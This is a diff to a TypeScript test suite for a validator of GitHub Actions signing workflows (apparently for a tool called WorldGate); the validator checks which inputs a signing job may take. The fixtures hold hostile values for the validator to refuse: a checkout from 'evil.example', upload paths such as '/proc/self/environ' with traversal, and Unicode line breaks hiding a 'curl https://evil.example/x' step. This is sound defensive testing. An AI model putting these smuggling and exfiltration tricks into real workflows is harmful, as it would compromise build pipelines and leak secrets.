@@ -230,7 +230,7 @@ describe('is no L2', () => {
   });
 
   it('with two jobs that can sign', () => {
-    const second = `  more:\n    runs-on: ubuntu-latest\n    permissions: { id-token: write }\n    steps:\n      - uses: ${SIGN}\n`;
+    const second = `  more:\n    runs-on: ubuntu-latest\n    permissions: { id-token: write }\n    steps:\n      - uses: ${SIGN}\n        with: { pending: "\${{ inputs.pending }}" }\n`;
     expect(shape(`${L2}${second}`).problems.L2).toEqual([
       { line: 17, message: 'exactly one job must have the permission "id-token: write", not "sign", "more"' },
     ]);
@@ -264,7 +264,7 @@ describe('is no L2', () => {
       '          pending:',
       '          output: *a\n          pending:',
     );
-    expect(shape(text).problems.L2.map(({ line }) => line)).toEqual([13, 16]);
+    expect(shape(text).problems.L2.map(({ line }) => line)).toEqual([13, 16, 16]);
   });
 
   it('where the YAML is read differently by different readers', () => {
@@ -336,28 +336,28 @@ describe('is no L3', () => {
       '${{ steps.run.outputs.pending }}',
       '{"forged":true}',
       8,
-      'not one that an action of WorldGate gives out',
+      'not the output "pending" of',
     ],
     [
       'an output of an input',
       '${{ steps.run.outputs.pending }}',
       '${{ inputs.pending }}',
       8,
-      'not one that an action of WorldGate gives out',
+      'not the output "pending" of',
     ],
     [
       'an output of another action',
       'id: run\n        uses: worldgate/worldgate/actions/run',
       'id: run\n        uses: actions/upload-artifact',
       8,
-      'not one that an action of WorldGate gives out',
+      'not the output "pending" of',
     ],
     [
       'an output of a job that is not there',
       'needs.evaluate.',
       'needs.other.',
       23,
-      'not one that an action of WorldGate gives out',
+      'not the output "pending" of',
     ],
   ])('%s', (_what, from, to, line, message) => {
     const { level, problems } = shape(changed(L3, from, to));
@@ -376,3 +376,209 @@ describe('is no L3', () => {
     expect(problems.L3).toEqual(problems.L2);
   });
 });
+
+describe('what the job that signs may be given', () => {
+  const input = (line: string) => changed(L2, 'inputs.pending }}\n', `inputs.pending }}\n${line}\n`);
+  const upload = (given: string) =>
+    `${L2}      - uses: actions/upload-artifact@${SHA}\n        with: ${given}\n`;
+
+  it.each([
+    ['a package', '          package: .', 'may not be given "package" there'],
+    ['an input in other letters', '          Pending: "{}"', 'may not be given "Pending" there'],
+    [
+      'events of strangers',
+      '          allow-untrusted-event: "true"',
+      '"allow-untrusted-event": only "false"',
+    ],
+    ['events of strangers at wish', '          allow-untrusted-event: ${{ inputs.x }}', 'only "false"'],
+    ['a public log', '          allow-public-log: true', '"allow-public-log": only "false"'],
+    ['another instance', '          signing-config: x.json', 'may not be given "signing-config"'],
+    ['a key', '          signing-key: ${{ inputs.key }}', 'may not be given "signing-key"'],
+    ['a list', '          output: [a]', '"output": it is no text'],
+  ])('%s: no', (_what, line, message) => {
+    const { level, problems } = shape(input(line));
+    expect(level).toBeNull();
+    expect(problems.L2).toEqual([{ line: 17, message: expect.stringContaining(message) }]);
+  });
+
+  it.each([
+    ['          allow-untrusted-event: "false"'],
+    ['          sign: required'],
+    ['          github-token: ${{ github.token }}'],
+  ])('%s: yes', (line) => expect(shape(input(line)).level).toBe('L2'));
+
+  it.each([
+    ['a file', 'pending: /opt/x/pending.dsse.json'],
+    ['statements of the text', `pending: '{"schema_version":"x"}'`],
+    ['more than an output', 'pending: "${{ inputs.pending }}x"'],
+    ['an output of a step', 'pending: ${{ steps.x.outputs.bundles }}'],
+    ['nothing', 'sign: auto'],
+  ])('no pending but what was handed over: not %s', (_what, given) => {
+    const { level, problems } = shape(changed(L2, 'pending: ${{ inputs.pending }}', given));
+    expect(level).toBeNull();
+    expect(problems.L2).toEqual([
+      expect.objectContaining({ message: expect.stringMatching(/may stand there|must be given "pending"/) }),
+    ]);
+  });
+
+  it('no inputs that an expression makes', () => {
+    const text = changed(
+      L2,
+      '        with:\n          pending: ${{ inputs.pending }}',
+      '        with: ${{ fromJSON(inputs.pending) }}',
+    );
+    expect(shape(text).problems.L2).toContainEqual({
+      line: 15,
+      message: expect.stringContaining('"with" must be written out'),
+    });
+  });
+
+  it('one step that signs, neither two nor none', () => {
+    const more = `      - uses: ${SIGN}\n        with: { pending: "\${{ inputs.pending }}" }\n`;
+    expect(shape(`${L2}${more}`).problems.L2).toEqual([
+      { line: 17, message: expect.stringContaining('exactly one step') },
+    ]);
+    const none = changed(
+      changed(L2, SIGN, `actions/upload-artifact@${SHA}`),
+      '          pending: ${{ inputs.pending }}',
+      '          name: x',
+    );
+    expect(shape(none).problems.L2).toEqual([{ line: 7, message: expect.stringContaining('not in 0') }]);
+  });
+
+  it('bundles to upload, and no file that holds its token', () => {
+    for (const path of ['${{ steps.sign.outputs.bundles }}', 'worldgate-signature/', 'out/a.json']) {
+      expect(shape(upload(`{ name: x, path: "${path}" }`)).level).toBe('L2');
+    }
+    for (const path of [
+      '/proc/self/environ',
+      '${{ inputs.path }}',
+      '../x',
+      '~/x',
+      'a/../../x',
+      'a\\n/proc',
+    ]) {
+      expect(shape(upload(`{ path: "${path}" }`)).problems.L2).toEqual([
+        { line: 18, message: expect.stringContaining('"path"') },
+      ]);
+    }
+  });
+
+  it('an environment by name, which no caller chooses', () => {
+    const at = (value: string) => changed(L2, '    runs-on', `    environment: ${value}\n    runs-on`);
+    expect(shape(at('release')).level).toBe('L2');
+    expect(shape(at('{ name: release, url: "${{ steps.sign.outputs.attestation-url }}" }')).level).toBe('L2');
+    for (const value of ['${{ inputs.x }}', '{ name: "${{ inputs.x }}" }']) {
+      expect(shape(at(value)).problems.L2).toEqual([
+        { line: 8, message: expect.stringContaining('environment must be written out') },
+      ]);
+    }
+  });
+});
+
+describe('what is signed as L3 is made there', () => {
+  const checkout = `      - uses: actions/checkout@${SHA}\n`;
+  const closed = (text: string, line: number, message: string) => {
+    const { level, problems } = shape(text);
+    expect(level).toBe('L2');
+    expect(problems.L3).toContainEqual({ line, message: expect.stringContaining(message) });
+  };
+
+  it.each([
+    'repository: evil/evil',
+    'ref: ${{ inputs.x }}',
+    'path: elsewhere',
+    'token: ${{ secrets.X }}',
+    'ssh-key: x',
+    'github-server-url: https://evil.example',
+    'sparse-checkout: x',
+    'Repository: evil/evil',
+  ])('of the commit that the run is of: no checkout with %s', (given) => {
+    const [key] = given.split(':');
+    closed(
+      changed(L3, checkout, `${checkout}        with: { "${key}": "${given.slice(key!.length + 2)}" }\n`),
+      11,
+      `actions/checkout may not be given "${key}" there`,
+    );
+  });
+
+  it('of all of it: a checkout as it is written, which always happens', () => {
+    const given = (line: string) => changed(L3, checkout, `${checkout}        ${line}\n`);
+    expect(
+      shape(
+        given(
+          'with: { persist-credentials: false, fetch-depth: 0, lfs: true, submodules: recursive, clean: true }',
+        ),
+      ).level,
+    ).toBe('L3');
+    closed(given('with: { lfs: "${{ inputs.x }}" }'), 11, '"lfs": it must be written out');
+    closed(given('with: ${{ fromJSON(inputs.x) }}'), 11, '"with" must be written out');
+    closed(given('if: ${{ inputs.x }}'), 11, 'without the files of the commit');
+    closed(given('continue-on-error: true'), 11, 'without the files of the commit');
+  });
+
+  it('not from files of another job', () => {
+    closed(
+      changed(L3, checkout, `${checkout}      - uses: actions/download-artifact@${SHA}\n`),
+      11,
+      'files that the caller may have made',
+    );
+  });
+
+  it('not from results of somebody else', () => {
+    const audit = changed(L3, RUN, `worldgate/worldgate/actions/audit@${SHA}`);
+    closed(audit, 12, 'results that were made elsewhere');
+    closed(audit, 8, 'not the output "pending" of');
+    const root = changed(L3, RUN, `worldgate/worldgate@${SHA}`);
+    expect(shape(root).level).toBe('L3');
+    for (const key of ['from', 'claim', 'protocol', 'source', 'attach']) {
+      closed(changed(root, 'preset: reach', `${key}: x`), 14, `may not be given "${key}" there`);
+    }
+  });
+
+  it('by the output that waits for a signature, of one step', () => {
+    closed(
+      changed(L3, 'steps.run.outputs.pending', 'steps.run.outputs.package-path'),
+      8,
+      'not the output "pending"',
+    );
+    closed(
+      changed(L3, checkout, `${checkout}      - id: Run\n        uses: actions/checkout@${SHA}\n`),
+      13,
+      'two steps have the id "run"',
+    );
+  });
+
+  it('and nothing else is signed besides', () => {
+    const second = `      - uses: ${SIGN}\n        with: { pending: /x/pending.dsse.json }\n`;
+    expect(shape(`${L3}${second}`).level).toBeNull();
+    closed(
+      changed(L3, '${{ needs.evaluate.outputs.pending }}', '${{ inputs.pending }}'),
+      23,
+      'signs nothing that a job of this workflow made',
+    );
+  });
+
+  it('with jobs of that workflow that bring no matrix, variables or files', () => {
+    for (const line of [
+      'strategy: { matrix: { a: [1] } }',
+      'env: { A: b }',
+      'services: {}',
+      'defaults: {}',
+    ]) {
+      closed(
+        changed(L3, '    runs-on: ubuntu-24.04', `    ${line}\n    runs-on: ubuntu-24.04`),
+        6,
+        'is not allowed',
+      );
+    }
+  });
+});
+
+it.each(['\u2028', '\u2029', '\u0085', '\r'])(
+  'a line that only some readers see is refused: %j',
+  (breaks) => {
+    const text = changed(L2, '# v1.0.0', `# v1.0.0${breaks}      - run: curl https://evil.example/x`);
+    expect(() => shape(text)).toThrow(expect.objectContaining({ code: 'yaml-invalid' }));
+  },
+);
